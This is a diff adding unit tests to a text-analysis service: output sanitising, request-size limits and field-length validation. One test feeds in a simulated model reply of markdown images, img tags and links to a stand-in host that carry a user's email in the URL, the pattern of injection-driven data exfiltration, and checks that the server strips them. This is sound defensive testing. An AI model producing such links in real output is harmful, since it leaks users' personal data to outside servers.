@@ -9,6 +9,8 @@
 #include <boost/test/unit_test.hpp>
 
 #include <csignal>
+#include <string>
+#include <vector>
 
 using namespace verbatim;
 using namespace verbatim::e2e;
@@ -89,6 +91,69 @@ BOOST_AUTO_TEST_CASE(an_analysis_makes_two_calls_with_one_request_id)
     BOOST_TEST(!contains(message(requests[0], 0), "queue"));
     for (const auto* tag : {"<source_text>", "<analyst_prompt>", "<analysis_to_score>"})
         BOOST_TEST(contains(message(requests[1], 1), tag), tag);
+}
+
+BOOST_AUTO_TEST_CASE(a_misled_model_sends_no_text_to_foreign_servers)
+{
+    test_server server{settings()};
+    provider.respond_by_default(stub_response::chat(
+        "![map](https://x.example/i?<EMAIL_ADDRESS_1>) <img src=\"https://x.example/i?<EMAIL_ADDRESS_1>\">"
+        "[more](https://x.example/?<EMAIL_ADDRESS_1>) https://x.example/?<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_1>"));
+
+    const auto response =
+        server.post("/v1/analyze-bulk", analysis_request("My name is Maria Kowalska, write to maria@example.org."));
+
+    BOOST_REQUIRE(response.status == 200);
+    BOOST_TEST((json::parse(response.body).at("analysis").as_string() ==
+                "map more https://x.example/?<EMAIL_ADDRESS_1> maria@example.org"));
+}
+
+BOOST_AUTO_TEST_CASE(links_and_trends_do_not_multiply_a_request)
+{
+    test_server server{settings()};
+    std::string mentions;
+    for (int n = 0; n != 200'000; ++n) mentions += "r-1 ";
+    provider.respond_by_default(stub_response::chat(mentions));
+
+    std::string labels;
+    for (int n = 0; n != 500'000; ++n) labels.append(std::to_string(n)).append(",");
+    const json::object metadata{{"created", "2026-03-02"}, {"coding_level_1", labels}};
+    json::object       record{
+        {"id", "r-1"}, {"content", "No water."}, {"url_id", std::string(1'024, 'u')}, {"metadata", metadata}};
+    json::object body{{"feedback_records", {record}},
+                      {"prompt", "What is missing?"},
+                      {"crm_feedback_base_url", "https://c.example/" + std::string(2'000, 'b')}};
+
+    BOOST_TEST(server.post("/v1/analyze-bulk", json::serialize(body)).status == 413); // models see the labels
+
+    test_server hidden{settings({{"ANALYZE_METADATA_FIELDS", "[]"}})};
+    const auto  response = hidden.post("/v1/analyze-bulk", json::serialize(body));
+    BOOST_REQUIRE(response.status == 200);
+    BOOST_TEST(response.body.size() < (16u << 20));
+    const auto parsed = json::parse(response.body);
+    BOOST_TEST((parsed.at("analysis").as_string().ends_with(" r-1 r-1 ")));
+    BOOST_TEST(parsed.at("coding_trends").at("cells").as_array().size() == 100u);
+    for (const auto& request : provider.requests()) BOOST_TEST(!contains(request.body, "2026"));
+}
+
+BOOST_AUTO_TEST_CASE(ids_and_addresses_beyond_their_length_are_rejected_with_their_path)
+{
+    test_server        server{settings()};
+    const json::object record{{"id", std::string(257, 'i')}, {"content", "c"}, {"url_id", std::string(1'025, 'u')}};
+    const json::object body{{"feedback_records", {record}},
+                            {"prompt", "p"},
+                            {"crm_feedback_base_url", "https://" + std::string(2'041, 'b')}};
+
+    const auto response = server.post("/v1/analyze-bulk", json::serialize(body));
+
+    BOOST_REQUIRE(response.status == 422);
+    std::vector<std::string> fields;
+    const auto               error = error_of(response);
+    for (const auto& entry : error.at("fields").as_array()) fields.push_back(text(entry.as_object(), "field"));
+    const std::vector<std::string> expected{"feedback_records[0].id", "feedback_records[0].url_id",
+                                            "crm_feedback_base_url"};
+    BOOST_TEST(fields == expected, boost::test_tools::per_element());
+    BOOST_TEST(provider.requests().empty());
 }
 
 BOOST_AUTO_TEST_CASE(provider_gets_no_personal_data_and_the_response_hides_only_persons)
